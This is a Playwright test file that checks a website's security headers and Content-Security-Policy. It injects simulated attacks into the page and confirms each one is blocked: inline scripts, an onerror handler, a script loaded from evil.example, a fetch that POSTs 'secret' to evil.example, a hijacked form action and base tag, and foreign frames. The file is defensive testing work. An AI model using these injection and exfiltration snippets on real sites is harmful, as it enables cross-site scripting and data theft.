import { once } from 'node:events';
import { createServer } from 'node:http';
import { expect, test as base } from '@playwright/test';
import { SITE } from './support/journey.ts';

/** Violates on purpose what firebase.json's headers prevent; every other test fails on a violation. */
const test = base.extend<{ elsewhere: string }>({
  /** The address of another site, which has two of our pages in frames. */
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads here which fixtures this one needs: none
  elsewhere: async ({}, use) => {
    const frames = `<iframe src="${SITE}/__/firebase/init.json"></iframe><iframe src="${SITE}/"></iframe>`;
    const server = createServer((_request, response) => {
      response.setHeader('Content-Type', 'text/html').end(frames);
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    const address = server.address();
    await use(typeof address === 'object' && address ? `http://127.0.0.1:${address.port}/` : '');
    server.close();
  },
});

const HEADERS: [name: string, value: RegExp][] = [
  ['content-security-policy', /^default-src 'none'; script-src 'self' https:\/\/apis\.google\.com; /],
  ['content-security-policy', /; base-uri 'none'; form-action 'self'; frame-ancestors 'none'$/],
  ['strict-transport-security', /^max-age=31536000$/],
  ['x-content-type-options', /^nosniff$/],
  ['referrer-policy', /^strict-origin-when-cross-origin$/],
  ['permissions-policy', /camera=\(\), .*geolocation=\(\), .*microphone=\(\)/],
  ['cross-origin-opener-policy', /^same-origin-allow-popups$/],
];

test('pages, pictures and scripts come with the headers', async ({ request, page }) => {
  await page.goto('/');
  const script = await page.locator('script[src]').first().getAttribute('src');
  for (const path of ['/', '/rooms/tide-room', '/no/such/page', '/images/no-such.webp', script ?? '']) {
    const headers = (await request.get(path)).headers();
    for (const [name, value] of HEADERS) expect(headers[name], `${name} of ${path}`).toMatch(value);
    expect(headers['content-security-policy']).not.toContain('unsafe-eval');
  }
});

const ATTACKS: [what: string, directive: string, attack: () => unknown][] = [
  [
    'a script in the page',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'document.documentElement.dataset.broken = "yes"';
      document.body.append(script);
    },
  ],
  [
    "another host's script",
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/script.js';
      document.body.append(script);
    },
  ],
  [
    'a handler in an attribute',
    'script-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="document.title = 1">');
    },
  ],
  [
    'text made a program',
    'script-src',
    () => {
      // Delayed, since the policy does not apply to what a test evaluates.
      setTimeout(() => {
        Reflect.construct(Function, ['']);
      });
    },
  ],
  [
    'news sent elsewhere',
    'connect-src',
    () => {
      void fetch('https://evil.example/', { mode: 'no-cors', method: 'POST', body: 'secret' }).catch(() => 0);
    },
  ],
  [
    'a form sent elsewhere',
    'form-action',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<form id="evil" action="https://evil.example/"></form>');
      document.querySelector<HTMLFormElement>('#evil')?.submit();
    },
  ],
  [
    'another base for every link',
    'base-uri',
    () => document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">'),
  ],
  [
    "another host's frame",
    'frame-src',
    () => document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe>'),
  ],
];

test('a page lets no other site in, and no other may frame it or read the API @long', async ({
  page,
  elsewhere,
}) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  for (const [what, directive, attack] of ATTACKS)
    await test.step(what, async () => {
      const breach = page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            document.addEventListener(
              'securitypolicyviolation',
              (event) => resolve(event.effectiveDirective),
              { once: true },
            );
          }),
      );
      await page.evaluate(attack);
      expect(await breach).toBe(directive);
      expect(await page.evaluate(() => document.documentElement.dataset.broken)).toBeUndefined();
      expect(page.url()).toBe(`${SITE}/`);
    });

  await page.goto(elsewhere);
  const [open, guarded] = page.frames().slice(1);
  await expect.poll(() => open?.url()).toBe(`${SITE}/__/firebase/init.json`); // so frames do work here
  await expect.poll(() => guarded?.url()).toBe('chrome-error://chromewebdata/');

  const reading = (mode: RequestMode, headers: Record<string, string> = {}) =>
    page.evaluate(
      ([url, init]) =>
        fetch(url, init).then(
          ({ type }) => type,
          () => 'refused',
        ),
      [`${SITE}/room`, { mode, headers }] as const,
    );
  expect(await reading('no-cors')).toBe('opaque'); // sent, but without a readable answer
  expect(await reading('cors')).toBe('refused');
  expect(await reading('cors', { Authorization: 'Bearer any' })).toBe('refused');
});
